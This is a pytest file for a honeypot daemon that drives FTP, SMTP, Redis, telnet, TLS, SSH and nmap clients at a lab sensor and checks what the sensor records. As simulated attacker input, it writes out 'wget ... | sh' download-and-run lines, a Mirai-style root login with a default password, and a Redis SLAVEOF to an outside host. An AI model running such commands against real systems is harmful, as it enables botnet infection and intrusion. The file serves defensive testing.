"""Real clients against the real daemon (nfq), in the attacker namespace: the shipped dialogues
carry ftplib, smtplib, redis-cli, curl and a telnet bot past their first exchange, and the
records keep what they sent."""

from __future__ import annotations

import ftplib
import hashlib
import io
import os
import signal
import smtplib
import socket
import subprocess
import time
from pathlib import Path

import download_servers
import pytest
from daemon import Honeytrap, nfq_rules
from netns import Lab, inside
from test_daemon import connect, payload_of

READ_TIMEOUT = 5  # -r (conftest.py's dialogue_sensor): every banner below must come well before it
TEMPLATES = Path(__file__).resolve().parent.parent / "templates"



def dialogue(record: dict[str, object]) -> dict[str, object]:
    value = record["dialogue"]
    assert isinstance(value, dict)
    return value


def by_port(records: list[dict[str, object]]) -> dict[int, dict[str, object]]:
    out = {}
    for record in records:
        conn = record["attack_connection"]
        assert isinstance(conn, dict)
        out[int(conn["local_port"])] = record
    return out


def read_until(sock: socket.socket, marker: bytes, limit: float = 10.0) -> bytes:
    """What the sensor sends, up to and including marker."""
    data = b""
    deadline = time.monotonic() + limit
    while marker not in data:
        sock.settimeout(max(deadline - time.monotonic(), 0.01))
        chunk = sock.recv(4096)
        if not chunk:
            raise AssertionError(f"closed before {marker!r}: {data!r}")
        data += chunk
    return data


def test_ftplib_logs_in_lists_retrieves_and_stores(lab: Lab, dialogue_sensor: Honeytrap) -> None:
    dialogue_sensor.start()
    upload = b"#!/bin/sh\nwget http://198.18.0.9/bot -O- | sh\n" * 20
    with inside(lab.attacker), ftplib.FTP(timeout=10) as ftp:  # noqa: S321 - the client under test
        ftp.connect(lab.sensor.ip4, 21)
        ftp.login("anonymous", "guest@example.com")
        assert ftp.pwd() == "/"
        lines: list[str] = []
        ftp.dir(lines.append)
        with pytest.raises(ftplib.error_perm, match="^550 "):
            ftp.retrbinary("RETR secret.txt", lambda _: None)
        stored = ftp.storbinary("STOR bot.sh", io.BytesIO(upload))
        ftp.quit()
    assert any(line.endswith(" welcome.msg") for line in lines), lines
    assert stored.startswith("226 ")
    [record] = dialogue_sensor.wait_records(1)
    sent = payload_of(record)
    assert b"USER anonymous\r\nPASS guest@example.com\r\n" in sent and b"STOR bot.sh\r\n" in sent
    info = dialogue(record)
    assert info["protocol"] == "ftp"
    fields = info["fields"]
    assert isinstance(fields, dict)
    assert bytes.fromhex(fields["data_received"]) == upload
    assert {"USER", "PASS", "PASV", "LIST", "RETR", "STOR", "QUIT"} <= set(fields["commands"])


def test_ftp_data_port_refuses_anyone_but_the_client(lab: Lab, dialogue_sensor: Honeytrap) -> None:
    """The passive port is offered to the control connection's client only."""
    dialogue_sensor.start()
    with inside(lab.attacker):
        ftp = ftplib.FTP(timeout=10)  # noqa: S321 - the client under test
        ftp.connect(lab.sensor.ip4, 21)
        ftp.login("u", "p")
        host, port = ftplib.parse227(ftp.sendcmd("PASV"))  # noqa: S321
    assert host == lab.sensor.ip4
    other = connect(lab.sensor, lab.sensor.ip4, port)  # the sensor itself: not the client
    other.settimeout(5)
    assert other.recv(100) == b""  # closed unread
    other.close()
    ftp.close()


def test_smtplib_sends_a_message_whose_body_is_recorded(
    lab: Lab, dialogue_sensor: Honeytrap
) -> None:
    dialogue_sensor.start()
    body = "Subject: invoice\r\n\r\nclick http://198.18.0.9/pay\r\n.dot-stuffed line\r\n"
    with inside(lab.attacker):
        client = smtplib.SMTP(lab.sensor.ip4, 25, timeout=10)
        client.ehlo("bot.example")
        refused = client.sendmail("a@example.com", ["b@example.org"], body)
        client.quit()
    assert refused == {}
    [record] = dialogue_sensor.wait_records(1)
    sent = payload_of(record)
    assert b"click http://198.18.0.9/pay\r\n..dot-stuffed line\r\n.\r\n" in sent
    assert dialogue(record)["protocol"] == "smtp"


def test_redis_cli_ping_prints_pong_and_info_names_a_version(
    lab: Lab, dialogue_sensor: Honeytrap
) -> None:
    dialogue_sensor.start()
    assert lab.attacker.cmd("redis-cli", "-h", lab.sensor.ip4, "PING").strip() == "PONG"
    info = lab.attacker.cmd("redis-cli", "-h", lab.sensor.ip4, "INFO", "server")
    assert "redis_version:" in info
    out = lab.attacker.cmd("redis-cli", "-h", lab.sensor.ip4, "SLAVEOF", "198.18.0.9", "6379")
    assert out.strip() == "OK"
    records = dialogue_sensor.wait_records(3)
    assert {dialogue(r)["protocol"] for r in records} == {"redis"}


def test_telnet_bot_logs_in_and_its_download_line_is_fetched(lab: Lab, tmp_path: Path) -> None:
    root = tmp_path / "www"
    root.mkdir()
    sample = os.urandom(20_000)
    (root / "x").write_bytes(sample)
    port = download_servers.start(lab, lab.attacker, "http", str(root), lab.attacker.ip4,
                                  "plain", str(tmp_path / "http.log"))
    nfq_rules(lab.sensor)
    ht = Honeytrap(lab, tmp_path / "ht", args=["-u", "nobody", "-g", "nogroup", "-l", "10"])
    ht.extra_config = 'download_allow = ["198.18.0.0/15"]'
    ht.plugins = f"""
plugin-httpDownload = ""
plugin-SaveFile = {{ attacks_dir = "{ht.attacks_dir}" downloads_dir = "{ht.downloads_dir}" }}
plugin-logJSON = {{ logfile = "{ht.attackers_json}" }}
"""
    ht.start()
    try:
        bot = connect(lab.attacker, lab.sensor.ip4, 23)
        banner = read_until(bot, b"login: ")
        assert banner.startswith(b"\xff\xfb\x01")  # RFC 854 negotiation first
        bot.sendall(b"\xff\xfd\x01\xff\xfd\x03\xff\xfb\x18root\r\n")  # Mirai-style
        read_until(bot, b"Password: ")
        bot.sendall(b"xc3511\r\n")
        read_until(bot, b"# ")
        bot.sendall(b"enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\n")
        read_until(bot, b"ECCHI: applet not found")
        line = f"cd /tmp; wget http://{lab.attacker.ip4}:{port}/x; sh x\r\n".encode()
        bot.sendall(line)
        read_until(bot, b"# ")
        bot.close()
        records = ht.wait_records(2, timeout=60)  # the attack, then its downloads' follow-up
    finally:
        assert ht.stop() == 0
    [record] = [r for r in records if not r.get("follow_up")]
    [follow_up] = [r for r in records if r.get("follow_up")]
    assert line in payload_of(record)
    assert dialogue(record)["protocol"] == "telnet"
    assert follow_up["id"] == record["id"] and follow_up["download_count"] == 1
    md5 = hashlib.md5(sample).hexdigest()
    assert (ht.downloads_dir / md5).read_bytes() == sample


def test_curl_gets_404_keep_alive_and_http_on_a_port_without_template(
    lab: Lab, dialogue_sensor: Honeytrap
) -> None:
    dialogue_sensor.start()
    base = f"http://{lab.sensor.ip4}"
    out = lab.attacker.cmd("curl", "-s", "-o", "/dev/null", "-o", "/dev/null",
                           "-w", "%{http_code} %{num_connects}\n", f"{base}/", f"{base}/no/such")
    assert out.split("\n")[:2] == ["200 1", "404 0"]  # the second request reused the connection
    head = lab.attacker.cmd("curl", "-s", "-I", f"{base}/")
    assert head.startswith("HTTP/1.1 200 OK\r\n") and "\r\nDate: " in head
    other = lab.attacker.cmd("curl", "-s", "-o", "/dev/null", "-w", "%{http_code}",
                             f"{base}:7070/admin")
    assert other == "404"  # port 7070 has no template: detected as HTTP
    records = by_port(dialogue_sensor.wait_records(3))
    assert dialogue(records[7070])["protocol"] == "http"
    fields = dialogue(records[7070])["fields"]
    assert isinstance(fields, dict) and fields["detected"] == "http"


@pytest.mark.slow
def test_a_silent_client_on_a_port_without_template_gets_silence(
    lab: Lab, dialogue_sensor: Honeytrap
) -> None:
    dialogue_sensor.start()
    sock = connect(lab.attacker, lab.sensor.ip4, 7071)
    sock.settimeout(READ_TIMEOUT + 1)
    with pytest.raises(TimeoutError):
        sock.recv(100)  # no newline, after a read timeout and more
    sock.close()
    [record] = dialogue_sensor.wait_records(1)
    assert dialogue(record)["protocol"] == "none"


@pytest.mark.parametrize("port", [21, 23, 25, 110, 143])
def test_server_speaks_first_banners_arrive_well_under_the_read_timeout(
    lab: Lab, dialogue_sensor: Honeytrap, port: int
) -> None:
    dialogue_sensor.start()
    start = time.monotonic()
    sock = connect(lab.attacker, lab.sensor.ip4, port)
    sock.settimeout(READ_TIMEOUT)
    first = sock.recv(100)
    elapsed = time.monotonic() - start
    sock.close()
    assert first
    assert elapsed < READ_TIMEOUT / 4, elapsed  # no read timeout waited for


def test_urgent_data_stays_in_the_record(lab: Lab, dialogue_sensor: Honeytrap) -> None:
    """lftp's ABOR: IAC IP, then IAC DM with the DM byte urgent (RFC 959 4.1.3)."""
    dialogue_sensor.start()
    sock = connect(lab.attacker, lab.sensor.ip4, 21)
    read_until(sock, b"\r\n")
    sock.sendall(b"\xff\xf4\xff")
    sock.send(b"\xf2", socket.MSG_OOB)
    sock.sendall(b"ABOR\r\n")
    read_until(sock, b"\r\n")
    sock.close()
    [record] = dialogue_sensor.wait_records(1)
    assert payload_of(record) == b"\xff\xf4\xff\xf2ABOR\r\n"


def test_curl_and_openssl_speak_tls_on_443_and_on_a_port_without_template(
    lab: Lab, dialogue_sensor: Honeytrap
) -> None:
    """TLS detected from the ClientHello on any port; the decrypted request is answered by the
    HTTP dialogue and recorded with the client's JA4."""
    dialogue_sensor.start()
    base = f"https://{lab.sensor.ip4}"
    out = lab.attacker.cmd("curl", "-sk", "-o", "/dev/null", "-w", "%{http_code}", f"{base}/")
    assert out == "200"
    out = lab.attacker.cmd("curl", "-sk", "-o", "/dev/null", "-w", "%{http_code}",
                           f"{base}:7443/nope")
    assert out == "404"
    reply = lab.attacker.cmd("openssl", "s_client", "-connect", f"{lab.sensor.ip4}:443",
                             "-servername", "www.example.com", "-quiet",
                             input=b"HEAD / HTTP/1.0\r\n\r\n")
    assert reply.startswith("HTTP/1.0 200 OK")
    records = dialogue_sensor.wait_records(3)
    for record in records:
        info = dialogue(record)
        assert info["protocol"] == "tls"
        fields = info["fields"]
        assert isinstance(fields, dict)
        assert fields["tls"]["ja4"].startswith("t1")
        decrypted = bytes.fromhex(fields["decrypted"])
        assert decrypted.split(b" ")[0] in (b"GET", b"HEAD")
        assert fields["detected"] == "tls"
        assert payload_of(record)[:1] == b"\x16"  # the raw bytes: the TLS records themselves
    by_sni = {dialogue(r)["fields"]["tls"]["sni"] for r in records}  # type: ignore[index]
    assert "www.example.com" in by_sni


def test_openssh_reaches_key_exchange_on_22(lab: Lab, dialogue_sensor: Honeytrap) -> None:
    dialogue_sensor.start()
    result = subprocess.run(
        lab.attacker.argv("ssh", "-vvv", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no",
                          "-o", "UserKnownHostsFile=/dev/null", "-o", "ConnectTimeout=10",
                          f"root@{lab.sensor.ip4}", "true"),
        capture_output=True, text=True, timeout=60, check=False)
    assert "SSH2_MSG_KEXINIT received" in result.stderr, result.stderr[-2000:]
    [record] = dialogue_sensor.wait_records(1)
    assert dialogue(record)["protocol"] == "ssh"


# nmap's service names that are right for each shipped template's port (nmap-services naming:
# SMB on 445 is "microsoft-ds", RDP "ms-wbt-server", Docker's API "docker" or plain "http").
NMAP_SECONDS = 600  # nmap -sV waits out silent ports' probes: minutes, not hours
NMAP_RIGHT = {
    21: {"ftp"}, 22: {"ssh"}, 23: {"telnet"}, 25: {"smtp"}, 80: {"http"}, 81: {"http"},
    110: {"pop3"}, 111: {"rpcbind"}, 135: {"msrpc"}, 139: {"netbios-ssn", "microsoft-ds"},
    143: {"imap"}, 445: {"microsoft-ds", "netbios-ssn"}, 587: {"smtp", "submission"},
    1433: {"ms-sql-s"}, 1521: {"oracle-tns"}, 2375: {"docker", "http"}, 3306: {"mysql"},
    3389: {"ms-wbt-server"}, 5432: {"postgresql"}, 5900: {"vnc"}, 6379: {"redis"},
    8000: {"http", "http-alt"}, 8080: {"http", "http-proxy"}, 8888: {"http"},
    9200: {"http", "elasticsearch"}, 11211: {"memcached"},
}


def test_nmap_version_scan_names_the_shipped_services(lab: Lab, dialogue_sensor: Honeytrap) -> None:
    """nmap -sV on every shipped template's TCP port: the figure (ports, right service, product
    named, wrong) is printed; every port with a dialogue file must be named right."""
    import xml.etree.ElementTree as ET  # noqa: N817, S405 - nmap's own output

    shipped = {int(p.name.split("_")[0]) for p in TEMPLATES.iterdir()
               if p.name.split(".")[0].endswith("_tcp")}
    assert shipped == set(NMAP_RIGHT)
    dialogue_sensor.start()
    ports = ",".join(str(port) for port in sorted(shipped))
    xml = subprocess.run(
        lab.attacker.argv("nmap", "-sV", "-Pn", "-n", "-T4", "-p", ports, "-oX", "-",
                          lab.sensor.ip4),
        capture_output=True, text=True, timeout=NMAP_SECONDS, check=True).stdout
    found = {}
    for port in ET.fromstring(xml).iter("port"):  # noqa: S314 - nmap's own output
        service = port.find("service")
        name = service.get("name", "") if service is not None else ""
        product = service.get("product", "") if service is not None else ""
        found[int(port.get("portid", "0"))] = (name, product)
    right = {p for p, (name, _) in found.items() if name in NMAP_RIGHT[p]}
    products = {p for p in right if found[p][1]}
    wrong = sorted(set(shipped) - right)
    print(f"\nnmap -sV: {len(shipped)} ports, {len(right)} right service, {len(products)} with "
          f"a product, {len(wrong)} wrong: {[(p, found.get(p)) for p in wrong]}")
    dialogue_ports = {int(p.name.split("_")[0]) for p in TEMPLATES.glob("*_tcp.dialogue")}
    assert dialogue_ports <= right, [(p, found.get(p)) for p in sorted(dialogue_ports - right)]


def test_a_broken_dialogue_file_stops_the_start_naming_file_and_line(
    lab: Lab, tmp_path: Path
) -> None:
    responses = tmp_path / "responses"
    responses.mkdir()
    (responses / "21_tcp.dialogue").write_text('dialogue ftp\nbanner "220 hi\\r\\n"\non cmd\n')
    ht = Honeytrap(lab, tmp_path / "ht", response_dir=responses)
    ht.start(ready=False)
    try:
        assert ht.proc is not None
        assert ht.proc.wait(timeout=60) == 2
    finally:
        assert ht.notify is not None
        ht.notify.close()
    assert f"{responses}/21_tcp.dialogue:3: cmd needs a value" in ht.stderr()


def test_reload_with_a_broken_dialogue_keeps_the_running_ones(lab: Lab, tmp_path: Path) -> None:
    responses = tmp_path / "responses"
    responses.mkdir()
    good = 'dialogue greeter\nbanner "HELLO ${port}\\r\\n"\n'
    (responses / "7000_tcp.dialogue").write_text(good)
    nfq_rules(lab.sensor)
    ht = Honeytrap(lab, tmp_path / "ht", response_dir=responses,
                   args=["-u", "nobody", "-g", "nogroup"])
    ht.start()
    try:
        (responses / "7000_tcp.dialogue").write_text(good + "on regex \"(\"\n")
        ht.signal(signal.SIGHUP)
        ht.wait_for("READY=1")
        sock = connect(lab.attacker, lab.sensor.ip4, 7000)
        assert read_until(sock, b"\r\n") == b"HELLO 7000\r\n"
        sock.close()
        ht.wait_records(1)
    finally:
        assert ht.stop() == 0
    assert "7000_tcp.dialogue:3: bad regular expression" in ht.logfile.read_text()
